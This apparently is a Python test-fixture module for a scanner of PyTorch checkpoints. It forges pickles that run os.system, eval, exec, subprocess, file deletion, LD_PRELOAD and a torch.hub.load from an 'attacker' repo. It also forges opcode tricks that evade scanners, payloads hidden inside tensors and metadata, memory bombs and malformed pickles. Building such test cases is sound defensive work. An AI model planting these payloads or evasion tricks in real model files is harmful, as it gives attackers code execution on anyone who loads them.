"""Owns the pickle cases: calls, opcodes, places, bombs and pickles that are none.

Its input is `forge`; the payloads are live under plain `pickle.load`, which a test checks.
"""

from __future__ import annotations

import struct
import sys
from collections.abc import Callable

from . import forge
from .cases import BAD, EITHER, Make, Site, add, add_file, torch_file, write_good
from .forge import Code, Edit, Record, call, named, push

# --- controls: the same blocks, right --------------------------------------------------------

HARMLESS: dict[str, object] = {
    "plain": 1,
    "namespace": forge.build(
        forge.newobj("argparse.Namespace"), {"arch": "resnet", "system": "eval"}
    ),
    "path": call("pathlib.PosixPath", "/", "etc", "passwd"),
    "numpy-scalar": call(
        "numpy._core.multiarray.scalar", call("numpy.dtype", "f8", False, True), b"\0" * 8
    ),
    "words": ["os.system", "builtins\neval\n", "subprocess.Popen"],
    "unknown-class": forge.build(forge.newobj("my_project.config.Config"), {"lr": 0.1}),
    "enum": call("my_project.config.Mode", "train"),
}
for name, value in HARMLESS.items():
    add_file("control", name, lambda _, v=value: torch_file(3, extra=v), exits=0)
add("control", "safetensors", lambda s: write_good(s, ".safetensors", (1, 2, 3)), exits=0)


# --- hostile pickles: what is called ----------------------------------------------------------

CALLS: dict[str, Callable[[Site], Code]] = {
    "os.system": lambda s: call("os.system", s.touch),
    "posix.system": lambda s: call("posix.system", s.touch),
    "os.popen": lambda s: call("os.popen", s.touch),
    "os.execv": lambda s: call("os.execv", "/bin/sh", ["sh", "-c", s.touch]),
    "os.remove": lambda s: call("os.remove", str(s.victim / "precious")),
    "os._exit": lambda _: call("os._exit", 0),
    "os.putenv": lambda _: call("os.putenv", "LD_PRELOAD", "evil.so"),
    "subprocess.Popen": lambda s: call("subprocess.Popen", ["touch", str(s.marker)]),
    "subprocess.check_output": lambda s: call("subprocess.check_output", s.touch.split()),
    "builtins.eval|eval": lambda s: call("builtins.eval", s.python),
    "__builtin__.eval|eval": lambda s: call("__builtin__.eval", s.python),
    "builtins.exec|exec": lambda s: call("builtins.exec", s.python),
    "builtins.compile|compile": lambda s: call("builtins.compile", s.python, "x", "exec"),
    "builtins.open|open": lambda s: call("builtins.open", str(s.marker), "w"),
    "_io.open": lambda s: call("_io.open", str(s.marker), "w"),
    "__import__": lambda s: call(
        call("builtins.getattr", call("builtins.__import__", "os"), "system"), s.touch
    ),
    "importlib.import_module": lambda s: call(
        call("builtins.getattr", call("importlib.import_module", "os"), "system"), s.touch
    ),
    "runpy.run_path": lambda s: call("runpy.run_path", s.script()),
    "pty.spawn": lambda s: call("pty.spawn", ["touch", str(s.marker)]),
    "shutil.rmtree": lambda s: call("shutil.rmtree", str(s.victim)),
    "shutil.copyfile": lambda s: call("shutil.copyfile", "/etc/hostname", str(s.marker)),
    "pathlib.Path.write_text|write_text": lambda s: call(
        forge.stack_named("pathlib:Path.write_text"), call("pathlib.Path", str(s.marker)), "x"
    ),
    "webbrowser.open": lambda _: call("webbrowser.open", "http://127.0.0.1:9/"),
    "urllib.request.urlopen": lambda _: call("urllib.request.urlopen", "http://127.0.0.1:9/"),
    "socket.create_connection": lambda _: call("socket.create_connection", ("127.0.0.1", 9)),
    "ctypes.CDLL": lambda _: call("ctypes.CDLL", "libc.so.6"),
    "pickle.loads": lambda s: call("pickle.loads", forge.pickled(call("os.system", s.touch))),
    "marshal.loads": lambda _: call("marshal.loads", b"\xe3" + b"\0" * 40),
    "types.FunctionType|marshal.loads": lambda _: call(
        "types.FunctionType", call("marshal.loads", b"N"), {}
    ),
    "functools.partial|os.system": lambda s: call(
        call("functools.partial", named("os.system"), s.touch)
    ),
    "builtins.map|os.system": lambda s: call(
        "builtins.list", call("builtins.map", named("os.system"), [s.touch])
    ),
    "torch.load": lambda s: call("torch.load", str(s.root / "other.pt")),
    "torch.hub.load": lambda _: call("torch.hub.load", "attacker/repo", "model"),
    "numpy.load": lambda s: call("numpy.load", str(s.root / "x.npy"), None, True),
    "code.interact": lambda _: call("code.interact"),
    "timeit.timeit": lambda s: call("timeit.timeit", "pass", s.python),
    "pdb.run": lambda s: call("pdb.run", s.python),
    "cProfile.run": lambda s: call("cProfile.run", s.python),
    "pydoc.pipepager": lambda s: call("pydoc.pipepager", "x", s.touch),
    "numpy.testing._private.utils.runstring|runstring": lambda s: call(
        "numpy.testing._private.utils.runstring", s.python, {}
    ),
    "sys.exit": lambda _: call("sys.exit", 0),
    "signal.raise_signal": lambda _: call("signal.raise_signal", 9),
}
ARMED = {
    "os.system",
    "posix.system",
    "subprocess.Popen",
    "subprocess.check_output",
    "builtins.eval|eval",
    "builtins.exec|exec",
    "builtins.open|open",
    "_io.open",
    "__import__",
    "importlib.import_module",
    "runpy.run_path",
    "pathlib.Path.write_text|write_text",
    "pickle.loads",
    "functools.partial|os.system",
    "builtins.map|os.system",
    "timeit.timeit",
    "cProfile.run",
}
for name, payload in CALLS.items():
    add_file(
        "call",
        name.split("|")[0],
        lambda s, p=payload: torch_file(3, protocol=4, extra=p(s)),
        "hostile",
        name,
        armed=name in ARMED,
    )
add_file(
    "call",
    "torch.storage._load_from_bytes",
    lambda s: torch_file(
        3,
        extra=call(
            "torch.storage._load_from_bytes",
            forge.torch_bytes(forge.pickled(call("os.system", s.touch)), {}),
        ),
    ),
    exits=EITHER,
)


# --- hostile pickles: by which opcodes --------------------------------------------------------


def instance(attribute: str) -> Code:
    """An object whose `attribute` is os.system."""
    return forge.build(forge.newobj("argparse.Namespace"), {attribute: named("os.system")})


def framed(code: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(code)) + code


OPCODES: dict[str, Callable[[Site], bytes]] = {
    "stack-global": lambda s: call(forge.stack_named("os.system"), s.touch),
    "stack-global-dotted": lambda s: call(forge.stack_named("shutil:os.system"), s.touch),
    "stack-global-under-torch": lambda s: call(
        forge.stack_named("torch.serialization:os.system"), s.touch
    ),
    "stack-global-from-memo": lambda s: (
        push("os") + b"\x940" + push("system") + b"\x940h\0h\1\x93" + push((s.touch,)) + b"R"
    ),
    "inst": lambda s: forge.inst("os.system", s.touch),
    "obj": lambda s: forge.obj("os.system", s.touch),
    "newobj": lambda s: forge.newobj("os.system", s.touch),
    "newobj-ex": lambda s: forge.newobj_ex("os.system", command=s.touch),
    "memoised": lambda s: (
        named("os.system") + b"r\xff\0\0\0" + push((s.touch,)) + b"Rj\xff\0\0\0\x86"
    ),
    "duplicated": lambda s: named("os.system") + b"2" + push((s.touch,)) + b"R\x86",
    "setstate": lambda s: forge.build(instance("__setstate__"), s.touch),
    "append": lambda s: instance("append") + push(s.touch) + b"a",
    "appends": lambda s: instance("append") + b"(" + push(s.touch) + b"e",
    "additems": lambda s: instance("add") + b"(" + push(s.touch) + b"\x90",
    "framed": lambda s: framed(call("os.system", s.touch)),
    "popped": lambda s: call("os.system", s.touch) + b"0N",
    "text-opcodes": lambda s: b"cos\nsystem\n(V" + s.touch.encode() + b"\ntR",
    "old-string": lambda s: b"cos\nsystem\n(S'" + s.touch.encode() + b"'\ntR",
}
UNARMED = {"newobj", "newobj-ex", "stack-global-under-torch"}
for name, opcodes in OPCODES.items():
    add_file(
        "opcode",
        name,
        lambda s, o=opcodes: torch_file(3, protocol=4, extra=Code(o(s))),
        "hostile",
        "os.system|posix.system",
        armed=name not in UNARMED,
    )
add_file(
    "opcode",
    "setitem-on-modules",
    lambda _: torch_file(3, extra=Code(named("sys.modules") + push("os") + b"Ns")),
    "sys.modules",
)


# --- hostile pickles: where in the file -------------------------------------------------------


def system(site: Site) -> Code:
    return call("os.system", site.touch)


def in_head(value: Callable[[Site], object]) -> Make:
    """A file whose `head.bias` is the given code, with a storage `x` of three floats."""
    extra: Edit = lambda records: [*records, Record("archive/data/x", b"\0" * 12)]  # noqa: E731 (a one-line Edit)
    return lambda site: torch_file(3, {"head.bias": value(site)}, edit=extra)


X = forge.storage("x", 3)
PLACES: dict[str, Make] = {
    "in-the-model": lambda s: torch_file(3, {"head.gain": system(s)}),
    "in-the-optimizer": lambda s: torch_file(3, optimizer={"state": {0: {"step": system(s)}}}),
    "as-a-key": lambda s: torch_file(3, extra={(system(s), 1): 1}),
    "in-a-persistent-id": in_head(
        lambda s: forge.tensor(forge.storage("x", system(s)), (3,), (1,))
    ),
    "as-a-storage-type": in_head(
        lambda s: forge.tensor(forge.storage("x", 3, kind=system(s)), (3,), (1,))
    ),
    "in-a-shape": in_head(lambda s: forge.tensor(X, (3, system(s)), (1, 0))),
    "in-the-hooks": in_head(
        lambda s: forge.tensor(X, (3,), (1,), hooks=call("collections.OrderedDict", [system(s)]))
    ),
    "in-a-parameter": in_head(
        lambda s: call(
            "torch._utils._rebuild_parameter", forge.tensor(X, (3,), (1,)), system(s), {}
        )
    ),
    "in-the-metadata": lambda s: forge.torch_bytes(
        forge.pickled(
            forge.build(forge.state_dict(forge.good_arrays(3))[0], {"_metadata": system(s)})
        ),
        forge.state_dict(forge.good_arrays(3))[1],
    ),
    "in-a-module": lambda s: torch_file(
        3, extra=forge.build(forge.newobj("nets.Net"), {"_parameters": {"w": system(s)}})
    ),
    "as-the-root": lambda s: forge.torch_bytes(forge.pickled(system(s)), {}),
}
for name, make in PLACES.items():
    add_file("place", name, make, "hostile", "os.system|posix.system")


# --- bombs: small files that ask for much ------------------------------------------------------

_HUGE = struct.pack("<Q", 1 << 62)


def colliding(count: int) -> Code:
    """A dict whose integer keys all have the same hash."""
    keys = (push(i * sys.hash_info.modulus) for i in range(1, count))
    return Code(b"}(" + b"".join(key + b"N" for key in keys) + b"u")


BOMBS: dict[str, tuple[Callable[[], bytes], int | tuple[int, ...]]] = {
    "long4": (lambda: b"\x8b" + struct.pack("<i", 2**31 - 1), BAD),
    "long4-negative": (lambda: b"\x8b" + struct.pack("<i", -5), BAD),
    "binunicode": (lambda: b"X" + struct.pack("<I", 2**32 - 1), BAD),
    "binunicode8": (lambda: b"\x8d" + _HUGE, BAD),
    "binbytes8": (lambda: b"\x8e" + _HUGE, BAD),
    "bytearray8": (lambda: b"\x96" + _HUGE, BAD),
    "binstring-negative": (lambda: b"T" + struct.pack("<i", -1), BAD),
    "frame": (lambda: b"\x95" + _HUGE + b"N", EITHER),
    "digits": (lambda: b"I" + b"9" * 2_000_000 + b"\n", EITHER),
    "memo-index": (lambda: b"Nr\xff\xff\xff\xff", EITHER),
    "memo-index-text": (lambda: b"Np" + b"9" * 40 + b"\n", EITHER),
    "many-memos": (lambda: b"N" + b"\x94" * 1_000_000, EITHER),
    "deep-tuples": (lambda: b"N" + b"\x85" * 100_000, EITHER),
    "deep-lists": (lambda: b"(" * 100_000 + b"l" * 100_000, EITHER),
    "deep-key": (lambda: b"}" + b"N" + b"\x85" * 100_000 + b"Ns", EITHER),
    "shared-tuples": (lambda: b"N" + b"2\x86" * 64, EITHER),
    "shared-lists": (lambda: b"(" * 64 + b"N" + b"2l" * 64, EITHER),
    "shared-key": (lambda: b"}" + b"N" + b"2\x86" * 64 + b"Ns", EITHER),
    "shared-dicts": (
        lambda: (
            b"}q\0"
            + b"".join(
                b"}(" + push("a") + b"h%c" % i + push("b") + b"h%c" % i + b"uq%c" % (i + 1) + b"0"
                for i in range(64)
            )
            + b"h@\x86"
        ),
        EITHER,
    ),
    "cycle": (lambda: b"}q\0" + push("model") + b"h\0s", EITHER),
    "stack-of-lists": (lambda: b"(" + b"]" * 2_000_000 + b"l", EITHER),
    "stack-of-marks": (lambda: b"(" * 1_000_000 + b"1" * 1_000_000 + b"N", EITHER),
    "colliding-keys": (lambda: colliding(40_000), EITHER),
    "bytearray-by-reduce": (lambda: call("builtins.bytearray", 1 << 40), EITHER),
    "array-by-reduce": (lambda: call("numpy.zeros", 1 << 40), EITHER),
    "range-in-a-list": (
        lambda: call("builtins.list", call("builtins.range", 1 << 40)),
        EITHER,
    ),
    "array-by-state": (
        lambda: forge.build(
            call("numpy._core.multiarray._reconstruct", named("numpy.ndarray"), (0,), b"b"),
            (1, (1 << 40,), call("numpy.dtype", "f8", False, True), False, b""),
        ),
        EITHER,
    ),
}
for name, (bomb, exits) in BOMBS.items():
    add_file("bomb", name, lambda _, b=bomb: torch_file(3, extra=Code(b())), exits=exits)


# --- pickles that are no pickles ---------------------------------------------------------------

BROKEN: dict[str, bytes] = {
    "stack-underflow": b"0" * 50,
    "stop-early": b".",
    "unknown-opcode": b"\xff",
    "extension-1": b"\x82\x01",
    "extension-4": b"\x84\x01\0\0\0",
    "next-buffer": b"\x97",
    "readonly-buffer": b"N\x98",
    "memo-undefined": b"h\xfe",
    "memo-undefined-text": b"g77\n",
    "odd-setitems": b"}(NNNu",
    "unhashable-key": b"}]Ns",
    "setitem-on-number": b"K\1NNs",
    "append-to-text": push("x") + b"Na",
    "tuple-without-mark": b"t" * 40,
    "no-newline": b"c" + b"o" * 40,
    "not-utf8": b"X\2\0\0\0\xff\xfe",
    "not-a-number": b"Iforty\n",
    "not-a-float": b"Fx\n",
    "not-quoted": b"Stext\n",
    "stack-global-of-numbers": b"K\1K\2\x93",
    "arguments-not-a-tuple": named("collections.OrderedDict") + b"K\1R",
    "call-of-a-number": b"K\1)R",
    "unknown-persistent-id": push("weights of mine") + b"Q",
    "unknown-persistent-text": b"Pweights\n",
}
# outside of the weights nobody reads what these stand for
UNREAD = {"unknown-persistent-id", "unknown-persistent-text"}
for name, code in BROKEN.items():
    add_file(
        "pickle",
        name,
        lambda _, c=code: torch_file(3, extra=Code(c)),
        exits=(0, 3) if name in UNREAD else 3,
    )
WHOLE: dict[str, Callable[[bytes], bytes]] = {
    "empty": lambda _: b"",
    "no-stop": lambda p: p[:-1],
    "half": lambda p: p[: len(p) // 2],
    "protocol-99": lambda p: b"\x80\x63" + p[2:],
    "only-stop": lambda _: b".",
    "zeros": lambda p: b"\0" * len(p),
}
for name, rewrite in WHOLE.items():
    add_file(
        "pickle",
        name,
        lambda _, r=rewrite: torch_file(3, edit=forge.change("data.pkl", data=r)),
    )
